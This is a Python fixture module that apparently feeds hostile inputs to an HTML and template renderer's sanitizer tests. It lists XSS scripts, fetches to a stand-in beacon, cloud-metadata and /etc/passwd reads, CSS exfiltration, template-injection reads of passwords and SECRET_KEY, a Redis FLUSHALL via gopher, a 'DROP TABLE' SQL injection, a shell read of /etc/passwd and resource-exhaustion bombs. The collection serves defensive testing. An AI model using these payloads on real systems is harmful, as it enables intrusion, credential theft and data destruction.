"""What somebody types into a standard text who wants it to reach something: kinds of attack that are publicly known, worded anew.

Each is a name, the field it is typed into, and the text. `OUT` stands for an address that is listened to, `META` for the one at
which clouds hand out their keys, `DISK` for a file of the machine.
"""

from __future__ import annotations

OUT, META, DISK = "http://127.0.0.1:9/beacon", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"

SCRIPTS = {
    "a script": "<p>Hello</p><script>fetch('" + OUT + "')</script>",
    "a script in capitals, half closed": "<ScRiPt src=" + OUT + " <b>x",
    "a script behind a slash": "<p>a</p><script/src='" + OUT + "'></script>",
    "an event on a picture": "<img src=x onerror=fetch('" + OUT + "')>",
    "an event on a paragraph": "<p onmouseover='location=\"" + OUT + "\"'>x</p>",
    "an event on a drawing": "<svg/onload=fetch('" + OUT + "')>",
    "a script in a drawing": "<svg><script>1</script></svg>",
    "a link that is a script": "<p><a href=\"javascript:fetch('" + OUT + "')\">x</a></p>",
    "a script in a link, with tabs": "<p><a href=\"jav\tascript:alert(1)\">x</a></p>",
    "a script in a link, as entities": '<p><a href="&#106;avascript:alert(1)">x</a></p>',
    "a link that is data": '<p><a href="data:text/html,<script>1</script>">x</a></p>',
    "a link in Visual Basic": '<p><a href="vbscript:msgbox(1)">x</a></p>',
    "a frame with its own text": '<iframe srcdoc="<script>1</script>"></iframe>',
    "a template element": "<template><script>1</script></template>",
    "mark-up that changes when it is read again": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="1">',
    "a title that closes itself": "<noscript><p title=\"</noscript><img src=x onerror=1>\">",
    "a form that sends itself": '<form action="' + OUT + '"><button>Go on</button></form>',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=' + OUT + '">',
    "a comment with a condition": "<!--[if gte IE 4]><script>1</script><![endif]-->",
    "an instruction of PHP": "<p>x</p><?php echo file_get_contents('/etc/passwd'); ?>",
}  # fmt: skip
REMOTE = {
    "a picture from elsewhere": f'<p><img src="{OUT}"></p>',
    "a picture of the machine": f'<p><img src="{DISK}"></p>',
    "a picture of the cloud's keys": f'<p><img src="{META}"></p>',
    "a picture of several sizes": f'<picture><source srcset="{OUT} 2x"><img src="{DISK}"></picture>',
    "an object": f'<object data="{DISK}"></object>',
    "an embedded thing": f'<embed src="{META}">',
    "a film": f'<video src="{OUT}" poster="{DISK}"></video>',
    "a style sheet from elsewhere": f'<link rel="stylesheet" href="{OUT}">',
    "a file attached to the page": f'<link rel="attachment" href="{DISK}">',
    "a file attached to a link": f'<p><a rel="attachment" href="{DISK}">x</a></p>',
    "a web link that attaches": '<p><a rel="attachment" href="https://example.com/">x</a></p>',
    "another base of all addresses": f'<base href="{META}"><p>x</p>',
    "a drawing that uses another": f'<svg><use href="{OUT}#a"/></svg>',
    "a picture in a drawing": f'<svg><image xlink:href="{DISK}" width="9" height="9"/></svg>',
    "a link to a file": f'<p><a href="{DISK}">x</a></p>',
    "a link to the cloud's keys": f'<p><a href="{META}">x</a></p>',
    "the same as one number": '<p><a href="http://2852039166/">x</a></p>',
    "the same in base sixteen": '<p><a href="http://0xa9.0xfe.0xa9.0xfe/">x</a></p>',
    "the same in base eight": '<p><a href="http://0251.0376.0251.0376/">x</a></p>',
    "the same in the new numbers": '<p><a href="http://[::ffff:169.254.169.254]/">x</a></p>',
    "a link to this machine": '<p><a href="http://localhost:5432/">x</a></p>',
    "a link to this machine, short": '<p><a href="http://127.1/">x</a></p>',
    "a link to the network inside": '<p><a href="http://10.0.0.5/admin">x</a></p>',
    "a link to a name inside": '<p><a href="http://metadata.google.internal/">x</a></p>',
    "a link without a scheme": '<p><a href="//evil.example/x">x</a></p>',
    "an old kind of address": '<p><a href="gopher://127.0.0.1:6379/_FLUSHALL">x</a></p>',
}  # fmt: skip
STYLES = {
    "a background": f'<p style="background:url({OUT})">x</p>',
    "an imported sheet": f"<style>@import url({OUT});</style><p>x</p>",
    "a face from elsewhere": f"<style>@font-face{{font-family:a;src:url({OUT})}}</style><p>x</p>",
    "content of a file": f"<style>p::before{{content:url({DISK})}}</style><p>x</p>",
    "an attribute read letter by letter": f"<style>a[href^=s]{{background:url({OUT})}}</style>",
    "a page background": f"<style>@page{{background:url({META})}}</style>",
    "words laid over the whole page": '<p style="position:fixed;inset:0;font-size:999pt">Cancelled</p>',
    "a background of a table": f'<table background="{OUT}"><tr><td>x</td></tr></table>',
    "an expression": "<p style=\"width:expression(alert(1))\">x</p>",
}  # fmt: skip
TEMPLATES = {
    "the password of a person": "<p>{{ rep.password }}</p>",
    "the key of the office": "<p>{{ settings.SECRET_KEY }}</p>",
    "another account's figures": "<p>{{ accounts.7.net }}</p>",
    "another account by its number": "<p>{{ customer.objects.all.1.name }}</p>",
    "another account's token": "<p>{{ account[42].figures.net }}</p>",
    "a walk through classes": "<p>{{ ''.__class__.__mro__[1].__subclasses__() }}</p>",
    "a walk through a function": "<p>{{ company.name.__init__.__globals__ }}</p>",
    "a filter": "<p>{{ customer.name | upcase }}</p>",
    "a file included": "<p>{% include '/etc/passwd' %}</p>",
    "a file rendered": "<p>{% render 'sections/letter.liquid.html' %}</p>",
    "a token that is nowhere": "<p>{{ customer.secret }}</p>",
    "a token in a token": "<p>{{ {{ customer.name }} }}</p>",
    "a token that never ends": "<p>{{ customer.name",
    "a token in an address": '<p><a href="https://example.com/{{ rep.name }}">x</a></p>',
    "a token split by mark-up": "<p>{<b>{ rep.password }</b>}</p>",
    "a token written in entities": "<p>&#123;&#123; rep.password &#125;&#125;</p>",
    "words for str.format": "<p>{0.__class__.__init__.__globals__}</p>",
    "words for a shell": "<p>${IFS}{cat,/etc/passwd}</p>",
}  # fmt: skip
BOMBS = {
    "a loop of a thousand million": "<p>{% for i in (1..1000000000) %}x{% endfor %}</p>",
    "loops in one another": "<p>" + "{% for i in (1..1000) %}" * 6 + "x" + "{% endfor %}" * 6 + "</p>",
    "a word doubled sixty times": "<p>{% assign a = 'x' %}" + "{% assign a = a | append: a %}" * 60 + "{{ a }}</p>",
    "elements six thousand deep": "<div>" * 6_000,
    "lists two hundred deep": "<ul><li>" * 200 + "x" + "</li></ul>" * 200,
    "quotes fifty deep": "<blockquote>" * 50 + "<p>x</p>" + "</blockquote>" * 50,
    "tables in tables": "<table><tr><td>" * 40 + "x" + "</td></tr></table>" * 40,
    "five megabytes": "x" * 5_000_000,
    "five megabytes of mark-up": "<p>x</p>" * 625_000,
    "openings without an end": "{{" * 9_000,
    "brackets without an end": "<" * 19_000,
    "a declaration without an end": "<![CDATA[" * 2_000,
    "comments without an end": "<!--" * 4_500,
    "an attribute without an end": '<p a="' + "x" * 19_000,
    "a thousand attributes": "<p " + "a=1 " * 4_000 + ">x</p>",
    "entities in entities": "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><p>&b;</p>",
}  # fmt: skip
LINES = {
    "a script in a title": ("title", "<script>fetch('" + OUT + "')</script>"),
    "a picture in a title": ("title", f'Hello <img src="{DISK}">'),
    "a secret in a title": ("title", "The {{ rep.password }}"),
    "a sign no page can print, in a title": ("title", "Hello \x0b there"),
    "a style in an opening line": ("lede", "<style>@import url(" + OUT + ")</style>"),
    "a loop in an opening line": ("lede", "{% for i in (1..999999) %}x{% endfor %}"),
    "a script in the guidance": ("guidance", "<img src=x onerror=alert(1)>"),
    "a condition on a password": ("sector", "manager__password__startswith"),
    "a condition on another database": ("theater", "EMEA'); DROP TABLE reviews_section; --"),
}  # fmt: skip

TEXTS: dict[str, tuple[str, str]] = {
    **{name: ("body", text) for kind in (SCRIPTS, REMOTE, STYLES, TEMPLATES, BOMBS) for name, text in kind.items()},
    **LINES,
}
# Nothing in these is refused: what is dropped of them says nothing, and what is left is words.
HARMLESS = {
    "spans of a word processor": '<p class="MsoNormal"><span lang="en">Plain <b>words</b>.</span></p>',
    "a cell of one column": '<table><tr><td colspan="999999999">x</td></tr></table>',
    "a token of the list": "<p>Dear {{ customer.contact }}.</p>",
    "a link to the web": '<p><a href="https://example.com/report" rel="noopener">The report</a></p>',
    "less and more": "a < b and b > c, 3 <4",
}
